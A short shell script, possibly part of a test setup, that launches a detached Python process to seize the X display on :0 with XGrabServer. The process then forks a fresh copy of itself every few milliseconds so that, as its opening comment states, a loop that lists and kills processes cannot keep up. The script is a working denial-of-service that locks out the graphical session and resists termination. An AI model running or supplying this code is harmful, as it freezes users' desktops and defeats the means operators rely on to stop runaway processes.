# Grabs the X server, so no other client gets an answer, in a process that forks a new copy of
# itself every few milliseconds: a kill loop that lists and kills cannot keep up with it.
DISPLAY=:0 setsid python3 - >/dev/null 2>&1 <<'PY' &
import ctypes, os, time
x = ctypes.CDLL("libX11.so.6")
x.XOpenDisplay.restype = ctypes.c_void_p
d = ctypes.c_void_p(x.XOpenDisplay(b":0"))
x.XGrabServer(d)
x.XSync(d, 0)
while True:
    if os.fork():
        os._exit(0)
    time.sleep(0.005)
PY
sleep 2
exit 0
